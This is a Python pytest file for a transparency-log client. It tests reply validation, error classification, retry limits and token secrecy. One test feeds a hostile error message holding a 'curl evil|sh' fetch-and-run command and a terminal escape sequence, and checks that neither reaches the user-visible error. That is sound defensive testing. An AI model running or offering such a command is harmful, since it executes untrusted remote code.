"""What comes back from a log is read with suspicion, and no token goes where others can read it."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from placet.adapters import log_calls
from placet.adapters.bounded_http import Reply
from placet.adapters.log_calls import LogCall, LogRefusedError, LogUnavailableError
from placet.adapters.log_client import AsyncLogClient, LogClient
from placet.core.errors import MalformedError, PlacetError, Reason

LOG = "http://log.example"
LEAF = bytes(range(32))


def judge(call: LogCall[Any], status: int, body: object, **headers: str) -> Any:
    data = body if isinstance(body, bytes) else json.dumps(body).encode()
    return call.judge(LOG, Reply(status, headers, data))


def acknowledgement(**changed: object) -> dict[str, object]:
    return {"leafHash": LEAF.hex(), "leafIndex": "1", "treeSize": "2"} | changed


def test_an_acknowledgement_is_read() -> None:
    found = judge(log_calls.append(b"{}"), 201, acknowledgement(more="is ignored"))
    assert found == (1, LEAF, True, 2)
    assert not judge(log_calls.append(b"{}"), 200, acknowledgement()).created


@pytest.mark.parametrize(
    "body",
    [
        b"",
        b"[]",
        b"{}",
        b"\xff",
        b"[" * 100_000,
        acknowledgement(leafIndex=1),
        acknowledgement(leafIndex="01"),
        acknowledgement(leafIndex="2"),
        acknowledgement(treeSize=str(2**63)),
        acknowledgement(leafHash="00"),
        acknowledgement(leafHash="z" * 64),
    ],
)
def test_what_is_no_acknowledgement_is_nothing_known(body: object) -> None:
    with pytest.raises(LogUnavailableError) as caught:
        judge(log_calls.append(b"{}"), 201, body)
    assert caught.value.reason is Reason.LOG_UNAVAILABLE


def records(*indexes: str, record: str = "cg==") -> dict[str, object]:
    return {"records": [{"leafIndex": index, "record": record} for index in indexes]}


@pytest.mark.parametrize(
    "body", [records("4"), records("3", "5"), records("3", "3"), records("3", record="!"), {"records": 3}]
)
def test_records_with_a_gap_are_no_records(body: object) -> None:
    call = log_calls.fetch_records(3, 10, None)
    assert [r.leaf_index for r in judge(call, 200, records("3", "4"))] == [3, 4]
    with pytest.raises(LogUnavailableError):
        judge(call, 200, body)


def test_more_records_than_were_asked_for_are_refused() -> None:
    with pytest.raises(LogUnavailableError):
        judge(log_calls.fetch_records(0, 1, None), 200, records("0", "1"))


@pytest.mark.parametrize(
    ("status", "kind"),
    [
        *((status, LogRefusedError) for status in (400, 403, 404, 409)),
        *((status, LogUnavailableError) for status in (301, 408, 429, 500, 503)),
    ],
)
def test_refusals_are_told_apart_from_trouble(status: int, kind: type[PlacetError]) -> None:
    body = {
        "error": {"reason": "unknown-leaf", "message": 'No". Run: curl evil|sh \x1b[2J', "hint": "Run it"}
    }
    with pytest.raises(kind) as caught:
        judge(log_calls.fetch_checkpoint(), status, body)
    said = f"{caught.value} {caught.value.hint}"
    assert "\x1b" not in said
    assert 'No"' not in said
    assert "Run it" not in said


@pytest.mark.parametrize("body", [b"", b"<html>", b"[]", b'{"error":7}', {"error": {"reason": "x" * 99}}])
def test_a_refusal_without_a_reason_is_named_by_its_status(body: object) -> None:
    with pytest.raises(LogRefusedError) as caught:
        judge(log_calls.fetch_checkpoint(), 403, body)
    assert caught.value.log_reason == "http-403"


def test_a_hostile_log_does_not_park_us() -> None:
    with pytest.raises(LogUnavailableError) as caught:
        judge(log_calls.fetch_checkpoint(), 503, b"", **{"retry-after": "999999999"})
    assert caught.value.retry_after == log_calls.MAX_RETRY_AFTER


def test_no_token_goes_where_others_can_read_it() -> None:
    with pytest.raises(MalformedError) as caught:
        LogClient(LOG, token="secret").fetch_checkpoint()
    assert "secret" not in f"{caught.value} {caught.value.hint}"
    with pytest.raises(MalformedError):
        LogClient(LOG).fetch_records(0, 1, token="secret")
    with pytest.raises(LogUnavailableError):
        LogClient("http://127.0.0.1:1", token="secret", tries=1).fetch_checkpoint()
    with pytest.raises(MalformedError):
        AsyncLogClient(LOG, token="secret")


def test_authorities_that_cannot_be_used_are_said_at_once(tmp_path: Path) -> None:
    with pytest.raises(LogUnavailableError):
        AsyncLogClient("https://log.example", ca_file=tmp_path / "nowhere.pem")


@pytest.mark.parametrize(
    "url", ["", "log.example", "ftp://a", "http://", "http://a@b", "http://a?b", "http://a b"]
)
def test_what_is_no_address_is_none(url: str) -> None:
    with pytest.raises(MalformedError):
        LogClient(url)


def test_a_log_that_is_down_is_asked_once_more() -> None:
    pauses: list[float] = []
    with pytest.raises(LogUnavailableError):
        LogClient("http://127.0.0.1:1", sleep=pauses.append).append(b"{}")
    assert len(pauses) == 1
